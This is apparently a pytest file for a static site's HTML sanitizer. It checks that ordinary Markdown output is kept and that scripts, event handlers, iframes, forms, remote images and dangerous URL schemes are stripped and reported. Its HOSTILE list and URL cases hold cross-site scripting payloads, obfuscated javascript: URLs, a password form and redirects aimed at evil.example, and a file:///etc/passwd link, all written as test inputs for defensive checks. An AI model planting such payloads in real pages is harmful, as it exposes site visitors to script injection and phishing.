"""The sanitizer alone: what this site's Markdown makes is kept, what could run or load
something is removed, and the checks name exactly what the sanitizer drops."""

from pathlib import Path
from textwrap import dedent

import pytest
from bs4 import BeautifulSoup
from pelican.readers import Readers
from pelican.settings import read_settings

from authoring.check import Unsanitized
from safe_html.allowlist import CONTENT, GLOBAL_ATTRIBUTES, TITLE, URL_SCHEMES
from safe_html.dropped import Dropped, dropped
from safe_html.sanitizer import allows_url, is_local_url, is_web_url, sanitize
from sitebuild import ROOT

# Everything an author's Markdown may make on this site, as Pelican reads it.
MARKDOWN = dedent("""\
    Title: "Every" -- construct & <em>more</em>
    Date: 2024-05-01 10:00
    Summary: A "summary" with *emphasis* & more.

    "Quotes" -- a dash... & a footnote[^1] and HTML, its abbreviation.

    *[HTML]: Hyper Text Markup Language

    | Left | Centre | Right |
    |:-----|:------:|------:|
    | a    | b      | c     |

    Term
    :   Definition

    ## A heading

    ### Its own anchor {: #anchor }

    ```python
    def serve(customer):
        return "coffee" + 'tea' < 3
    ```

        indented <code>

    <abbr title="as soon as possible">ASAP</abbr> H<sub>2</sub>O x<sup>2</sup>
    <kbd>Ctrl</kbd>+<kbd>C</kbd><br>
    ![a cup of coffee](/images/cup.png "Coffee") <https://example.org> <me@example.org>
    [relative](other/) [a file]({filename}other.md) [mail](mailto:me@example.org)

    > A quotation with **strong** and `code`.

    ---

    1. one
    2. two

    - three

    [^1]: The note.
""")


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """MARKDOWN as Pelican's reader makes it, before sanitizing."""
    content = tmp_path_factory.mktemp("content")
    (content / "every.md").write_text(MARKDOWN, encoding="utf-8")
    settings = read_settings(str(ROOT / "pelicanconf.py"), override={"PATH": str(content)})
    return Readers(settings).read_file(str(content), "every.md", content_class=Unsanitized)


def shape(html: str) -> list:
    """Each element with its attributes (style without spaces), and the text, as a parser
    reads them: what a reader gets, however it is serialised."""
    soup = BeautifulSoup(html, "html.parser")
    elements = [(e.name, {k: v.replace(" ", "").rstrip(";") if k == "style" else v
                          for k, v in e.attrs.items()}) for e in soup.find_all(True)]
    return [elements, soup.get_text()]


def test_what_the_sites_markdown_makes_is_kept(rendered):
    html = rendered._content
    for made in ['<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">', 'class="footnote"',
                 'style="text-align: center;"', "<dl>", '<h3 id="anchor">', '<span class="k">',
                 '<abbr title="Hyper Text Markup Language">', "<kbd>", "<sub>", "<br>",
                 '<img alt="a cup of coffee"', 'href="{filename}other.md"', 'class="amp"']:
        assert made in html, made  # the example makes every construct
    assert dropped(html) == []
    assert shape(sanitize(html)) == shape(html)


def test_a_title_and_a_summary_keep_their_markup(rendered):
    assert dropped(rendered.title, TITLE) == []
    assert shape(sanitize(rendered.title, TITLE)) == shape(rendered.title)
    summary = rendered.metadata["summary"]
    assert dropped(summary) == [] and shape(sanitize(summary)) == shape(summary)


def test_the_topic_plugins_links_and_anchors_pass_unchanged():
    html = ('<p><span id="topic-bus-driver"></span>I thank the <a class="topic-link" '
            'id="topic-barista" href="/roles/barista/" title="Role: Barista">barista</a>.</p>')
    assert sanitize(html) == html and dropped(html) == []


HOSTILE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(2)">', '<svg onload="alert(3)"><circle/></svg>',
    '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    '<iframe src="https://evil.example/"></iframe>', '<object data="x.swf"></object>',
    '<embed src="x.swf">', '<form action="https://evil.example/"><input name="pw"></form>',
    "<style>body{display:none}</style>", '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
    '<a href="/" target="_blank" rel="opener">x</a>', '<div onclick="alert(1)">x</div>',
    '<p title="x" onmouseover="alert(1)">x</p>', '<details open ontoggle="alert(1)">x</details>',
    '<template><img src=x onerror=alert(1)></template>', '<p class="draft-banner">x</p>',
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="javascript:alert(1)">x</a>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_what_could_run_or_load_something_is_removed_and_named(html):
    clean = BeautifulSoup(sanitize(html), "html.parser")
    for element in clean.find_all(True):
        assert CONTENT.allows_tag(element.name), element
        for name, value in element.attrs.items():
            assert CONTENT.allows_attribute(element.name, name), element
            assert name not in {"href", "src"} or allows_url(value), element
    assert dropped(html), "the checks name what was removed"


def test_script_and_style_go_with_their_content_other_tags_leave_their_text():
    assert sanitize("<p>a<script>alert(1)</script>b<style>p{}</style>c</p>") == "<p>abc</p>"
    assert sanitize("<p><blink>still</blink> here</p>") == "<p>still here</p>"


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:x",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "file:///etc/passwd",
    "ftp://example.org/",
])
def test_urls_other_than_http_https_mailto_and_relative_are_removed(href):
    html = f'<p><a href="{href}">x</a><img src="{href}" alt="y"></p>'
    assert sanitize(html) == '<p><a>x</a><img alt="y"></p>'
    assert {d.kind for d in dropped(html)} == {"url"}


@pytest.mark.parametrize("href", [
    "https://example.org/a?b=1&amp;c=2", "http://example.org", "HTTPS://example.org/",
    "mailto:me@example.org", "/essays/x/", "../x/", "x.html", "#fn:1", "?q=barista",
    "{filename}other.md", "{static}/images/cup.png",
])
def test_http_https_mailto_and_relative_urls_are_kept(href):
    html = f'<p><a href="{href}">x</a></p>'
    assert sanitize(html) == html and dropped(html) == []


@pytest.mark.parametrize("src", [
    "https://evil.example/pixel.png", "HTTP://evil.example/p.png", "//evil.example/p.png",
    " //evil.example/p.png", "/\\evil.example/p.png", "\\\\evil.example/p.png",
    "/\t/evil.example/p.png", "http:evil.example/p.png", "&#x2F;/evil.example/p.png",
])
def test_an_image_from_another_host_is_removed_and_named(src):
    html = f'<p><img src="{src}" alt="a pixel"></p>'
    assert sanitize(html) == '<p><img alt="a pixel"></p>'
    assert [d.kind for d in dropped(html)] == ["remote"]


@pytest.mark.parametrize("src", [
    "/images/cup.png", "images/cup.png", "../images/cup.png", "{static}/images/cup.png",
    "{filename}/images/cup.png", "/images/a:b.png",
])
def test_an_image_of_the_sites_own_is_kept(src):
    html = f'<p><img src="{src}" alt="a cup"></p>'
    assert sanitize(html) == html and dropped(html) == [] and is_local_url(src)


def test_characters_no_page_or_feed_may_hold_are_removed():
    """XML 1.0 forbids the C0 controls (but tab, line feed, carriage return), U+FFFE and
    U+FFFF; the C1 controls and DEL are not text either."""
    forbidden = "".join(map(chr, [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20),
                                  *range(0x7F, 0xA0), 0xFFFE, 0xFFFF]))
    html = f'<p title="a{forbidden}b">x{forbidden}y\tz\nw</p>'
    assert sanitize(html) == '<p title="ab">xy\tz\nw</p>'
    assert sanitize(f"<em>A{forbidden}</em> title", TITLE) == "<em>A</em> title"


def test_a_title_holds_inline_markup_only():
    title = 'A <em>fine</em> <a href="/">link</a><br><img src="x.png" alt="x"> <code>t</code>'
    assert sanitize(title, TITLE) == "A <em>fine</em> link <code>t</code>"
    assert [d.tag for d in dropped(title, TITLE)] == ["a", "br", "img"]


def test_each_construct_is_named_once_in_document_order():
    html = ('<p class="note" style="color:red;text-align:left"><img src=x onerror=alert(1)>'
            '<iframe src="https://x.example/"></iframe><b onclick=x>b</b>'
            '<a href="javascript:alert(1)" target=_blank>x</a></p>')
    assert dropped(html) == [
        Dropped("attribute", "p", "class", "note"), Dropped("attribute", "p", "style",
                                                            "color:red;text-align:left"),
        Dropped("attribute", "img", "onerror", "alert(1)"), Dropped("tag", "iframe"),
        Dropped("attribute", "b", "onclick", "x"),
        Dropped("url", "a", "href", "javascript:alert(1)"),
        Dropped("attribute", "a", "target", "_blank")]


def test_classes_and_styles_are_held_against_their_own_lists():
    html = ('<div class="highlight evil"><span class="k nope">x</span></div>'
            '<table><tr><td style="text-align: right; color: red">x</td></tr></table>')
    assert dropped(html) == [Dropped("class", "div", "evil"), Dropped("class", "span", "nope"),
                             Dropped("style", "td", "color")]
    assert 'class="highlight"' in sanitize(html) and "color" not in sanitize(html)


@pytest.mark.parametrize("url, web", [
    ("https://example.org/original", True), ("http://example.org", True),
    ("HTTPS://EXAMPLE.ORG/", True), ("javascript:alert(1)", False), ("//example.org/", False),
    ("/essays/x/", False), ("mailto:me@example.org", False), ("https://", False),
    ("java\tscript:alert(1)", False), ("https://exa mple.org/", False),
    ("\x01https://example.org/", False), ("data:text/html,x", False),
])
def test_a_url_field_holds_an_absolute_web_address_only(url, web):
    assert is_web_url(url) is web


def test_the_allowlist_allows_no_event_handler_and_no_url_scheme_that_runs_script():
    attributes = set(GLOBAL_ATTRIBUTES).union(*CONTENT.tags.values())
    assert not any(name.startswith("on") for name in attributes)
    assert URL_SCHEMES == {"http", "https", "mailto"}
    assert not {"script", "style", "iframe", "object", "embed", "form", "base", "meta", "link",
                "svg", "math", "input", "textarea", "button"} & set(CONTENT.tags)


def test_the_plugin_readme_lists_the_allowlist():
    readme = (Path(ROOT) / "plugins" / "safe_html" / "README.md").read_text(encoding="utf-8")
    for tag in CONTENT.tags:
        assert f"`{tag}`" in readme, tag
